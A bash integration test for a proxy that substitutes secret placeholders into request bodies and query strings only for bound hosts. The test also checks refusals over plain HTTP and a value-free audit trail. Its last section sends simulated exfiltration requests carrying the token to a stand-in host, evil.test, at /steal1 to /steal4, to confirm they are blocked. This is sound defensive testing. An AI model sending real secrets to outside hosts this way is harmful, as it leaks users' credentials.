#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Body and query substitution (slate secret set --body / --query) through the real proxy core
# (tests/unit/proxy-listen on 127.0.0.1) with curl and Python's http.server as the upstream,
# plain HTTP and intercepted HTTPS. Each case checks what reached the server:
#   a form body and a JSON body reach a bound host with the real value, encoded for each (the
#   value holds & = + space " \ /), and a Content-Length that matches; a chunked one arrives
#   re-framed; gzip-encoded and text/plain bodies, and a secret without --body, are untouched;
#   ?key=PH is substituted (percent-encoded) for a --query key secret, and nowhere else in the
#   target; a secret without --query never is; over plain HTTP only for a secret set with
#   allow_plain_http (403 for the body and the query otherwise); an unbound host with the
#   placeholder in a body or
#   query parameter gets 451 and nothing arrives; the audit trail says where, never the value.
# Run through tests/integration/run-one, which sources lib.sh.
set -euo pipefail

for cmd in curl openssl python3 gzip; do
    command -v $cmd >/dev/null || skip "$cmd not found"
done
pick_python
need_proxy_listen
raw=$top_srcdir/tests/integration/proxy-raw.py
w=$test_tmpdir

make_test_certs "$w" "slate subst test CA" api.bound.test DNS:api.bound.test,DNS:evil.test

pids=()
on_exit stop_bg pids
start_http_peers "$w"

# A real value with every byte that means something in a form, a JSON string or a query.
real='r3al&val=ue+1 2/3"q\b'
real_plain=real-plain-value-0123456789
$py - "$w/secrets.json" "$real" "$real_plain" <<'EOF'
import json, sys
json.dump([
    {"key": "SUBST_KEY", "kind": "generic", "hosts": ["plain.bound.test", "api.bound.test"],
     "value": sys.argv[2], "body": True, "query": "key", "allow_plain_http": True},
    {"key": "PLAIN_KEY", "kind": "generic", "hosts": ["plain.bound.test"],
     "value": sys.argv[3]},
    {"key": "TLS_KEY", "kind": "generic", "hosts": ["plain.bound.test"],
     "value": sys.argv[3] + "-tls", "body": True, "query": "tk"},
], open(sys.argv[1], "w"))
EOF
echo '{"default": "allow-all", "rules": [{"action": "allow", "host": "127.0.0.1"}]}' \
    >"$w/policy.json"
connect_to="api.bound.test:443:127.0.0.1:$tp,evil.test:443:127.0.0.1:$tp"
connect_to+=",plain.bound.test:80:127.0.0.1:$pp,evil.test:80:127.0.0.1:$pp"
start_proxy_listen "$w" "$connect_to"
ph() { $py -c 'import json,sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$w/ph.json" "$1"; }
PH=$(ph SUBST_KEY)
PLAIN=$(ph PLAIN_KEY)
TLS=$(ph TLS_KEY)
log "placeholders: $PH $PLAIN"

pc() { curl -gsS --max-time 20 --proxy "http://127.0.0.1:$px" --cacert "$w/install/egress-ca.crt" "$@"; }
code() { pc -o "$w/body" -w '%{http_code}' "$@" 2>/dev/null || true; }
leaks() { grep -c '"type":"compromised"' "$w/events.jsonl" || true; }
reached() { cat "$w/plain.log" "$w/tls.log" | grep -v '^INCOMPLETE' | grep -qF -- " $1"; }
# field FILE EXPR: a Python expression over the echoed request d (body, path, headers h).
field() {
    $py -c 'import json,sys
d=json.load(open(sys.argv[1])); h={k.lower(): v for k, v in d["headers"]}
print(eval(sys.argv[2]))' "$1" "$2"
}
# The body arrived whole with a Content-Length that is its length, and no chunked framing.
framed() {
    [ "$(field "$w/out" 'h.get("content-length") == str(len(d["body"].encode("latin-1")))')" = True ] ||
        fail "$1: Content-Length does not match the body: $(cat "$w/out")"
    [ "$(field "$w/out" '"transfer-encoding" in h')" = False ] ||
        fail "$1: still chunked: $(cat "$w/out")"
}
form_real=$($py -c 'import sys, urllib.parse; print(urllib.parse.quote_plus(sys.argv[1]))' "$real")
query_real=$($py -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$real")

# ---- bodies, bound hosts ----
pc -H "Content-Type: application/x-www-form-urlencoded" --data-binary "a=1&token=$PH&b=2" \
    http://plain.bound.test/form >"$w/out"
[ "$(field "$w/out" 'd["body"]')" = "a=1&token=$form_real&b=2" ] ||
    fail "form body not substituted: $(cat "$w/out")"
[ "$(field "$w/out" '__import__("urllib.parse").parse.parse_qs(d["body"])["token"][0]')" = "$real" ] ||
    fail "the form body does not decode to the real value"
framed "form body"
printf '{"token": "%s", "note": "Bearer %s"}' "$PH" "$PH" >"$w/json"
pc -H "Content-Type: application/json; charset=utf-8" --data-binary @"$w/json" \
    https://api.bound.test/json >"$w/out"
[ "$(field "$w/out" 'json.loads(d["body"])["token"]')" = "$real" ] ||
    fail "JSON body not substituted: $(cat "$w/out")"
[ "$(field "$w/out" 'json.loads(d["body"])["note"]')" = "Bearer $real" ] ||
    fail "JSON body: the second placeholder: $(cat "$w/out")"
framed "JSON body (intercepted TLS)"
# Chunked: buffered, substituted, sent with a Content-Length.
pc -H "Transfer-Encoding: chunked" -H "Content-Type: application/x-www-form-urlencoded" \
    --data-binary "token=$PH" http://plain.bound.test/te-form >"$w/out"
[ "$(field "$w/out" 'd["body"]')" = "token=$form_real" ] ||
    fail "chunked form body not substituted: $(cat "$w/out")"
framed "chunked form body"
# Not a form or JSON, or encoded: as it was.
pc -H "Content-Type: text/plain" --data-binary "token=$PH" http://plain.bound.test/text >"$w/out"
[ "$(field "$w/out" 'd["body"]')" = "token=$PH" ] || fail "a text/plain body was rewritten"
pc -H "Content-Type: application/x-www-form-urlencoded" -H "Content-Encoding: gzip" \
    --data-binary "token=$PH" http://plain.bound.test/gzip >"$w/out"
[ "$(field "$w/out" 'd["body"]')" = "token=$PH" ] || fail "a gzip-encoded body was rewritten"
# A secret without --body: its placeholder goes as it is, even to its bound host.
pc -H "Content-Type: application/x-www-form-urlencoded" --data-binary "k=$PLAIN" \
    http://plain.bound.test/plain-body >"$w/out"
[ "$(field "$w/out" 'd["body"]')" = "k=$PLAIN" ] ||
    fail "a secret without --body was substituted in a body: $(cat "$w/out")"
printf '{"k": "%s"}' "$PLAIN" >"$w/json2"
pc -H "Content-Type: application/json" --data-binary @"$w/json2" \
    http://plain.bound.test/plain-json >"$w/out"
grep -qF "$real_plain" "$w/out" && fail "a secret without --body was substituted in JSON"

# ---- the query ----
pc "http://plain.bound.test/q1?a=1&key=$PH&b=2" >"$w/out"
[ "$(field "$w/out" 'd["path"]')" = "/q1?a=1&key=$query_real&b=2" ] ||
    fail "?key= not substituted: $(cat "$w/out")"
pc "https://api.bound.test/q2?key=$PH" >"$w/out"
[ "$(field "$w/out" '__import__("urllib.parse").parse.parse_qs(d["path"].split("?")[1])["key"][0]')" = "$real" ] ||
    fail "?key= over TLS does not decode to the real value: $(cat "$w/out")"
for t in "/q3/$PH?key=1" "/q4?other=$PH" "/q5?key=x$PH" "/q6?$PH=key"; do
    pc "http://plain.bound.test$t" >"$w/out"
    [ "$(field "$w/out" 'd["path"]')" = "$t" ] ||
        fail "a placeholder elsewhere in the target was touched: $t -> $(cat "$w/out")"
done
pc "http://plain.bound.test/q7?key=$PLAIN" >"$w/out"
[ "$(field "$w/out" 'd["path"]')" = "/q7?key=$PLAIN" ] ||
    fail "a secret without --query was substituted in the query"
# TLS_KEY (--body --query, no allow_plain_http): over plain http:// its body and query
# substitution are refused (403 naming it), nothing arrives; a placeholder it does not replace
# (elsewhere in the target) goes as it is.
st=$(code -H "Content-Type: application/x-www-form-urlencoded" --data-binary "tk=$TLS" \
    http://plain.bound.test/tls-only-body)
[ "$st" = 403 ] && grep -qF TLS_KEY "$w/body" || fail "a --body secret over plain HTTP: $st $(cat "$w/body")"
st=$(code "http://plain.bound.test/tls-only-query?tk=$TLS")
[ "$st" = 403 ] && grep -qF TLS_KEY "$w/body" || fail "a --query secret over plain HTTP: $st $(cat "$w/body")"
[ "$(code "http://plain.bound.test/tls-elsewhere/$TLS")" = 200 ] || fail "a placeholder left alone was refused"
for p in tls-only-body tls-only-query; do reached "/$p" && fail "/$p reached the server"; done
grep -qF -- "$real_plain-tls" "$w/plain.log" && fail "TLS_KEY's real value went over plain HTTP"
[ "$(leaks)" = 0 ] || fail "a leak was reported for bound hosts"

# ---- unbound hosts: 451, nothing arrives ----
n=0
expect_leak() {
    n=$((n + 1))
    [ "$2" = 451 ] || fail "$1: status $2, want 451"
    [ "$(leaks)" = "$n" ] || fail "$1: the compromise hook did not run"
}
expect_leak "form body" "$(code -H "Content-Type: application/x-www-form-urlencoded" \
    --data-binary "token=$PH" http://evil.test/steal1)"
expect_leak "JSON body" "$(code -H "Content-Type: application/json" \
    --data-binary "{\"t\": \"$PH\"}" https://evil.test/steal2)"
expect_leak "query parameter" "$(code "http://evil.test/steal3?key=$PH")"
expect_leak "query parameter (TLS)" "$(code "https://evil.test/steal4?key=$PH")"
for i in 1 2 3 4; do reached "/steal$i" && fail "leak $i reached the server"; done

# ---- the audit trail: where, never the value ----
$py - "$w/events.jsonl" <<'EOF' || fail "the audit trail does not say where: $(cat "$w/events.jsonl")"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
where = {}
for e in ev:
    if e.get("type") == "egress":
        for k, v in e.get("substituted_in", {}).items():
            where.setdefault(e["path"].split("?")[0], {})[k] = v
assert where["/form"] == {"SUBST_KEY": ["body"]}, where
assert where["/json"] == {"SUBST_KEY": ["body"]}, where
assert where["/q1"] == {"SUBST_KEY": ["query"]}, where
assert "/text" not in where and "/plain-body" not in where and "/q7" not in where, where
leak = [e for e in ev if e.get("type") == "leak"]
assert [e["where"] for e in leak] == ["body", "body", "url", "url"], leak
EOF
for v in "$real" "$form_real" "$query_real" "$real_plain" "$real_plain-tls"; do
    grep -qF -- "$v" "$w/events.jsonl" "$w/proxy.log" && fail "a real value is in the trail or log"
done
log "body and query substitution: ok"
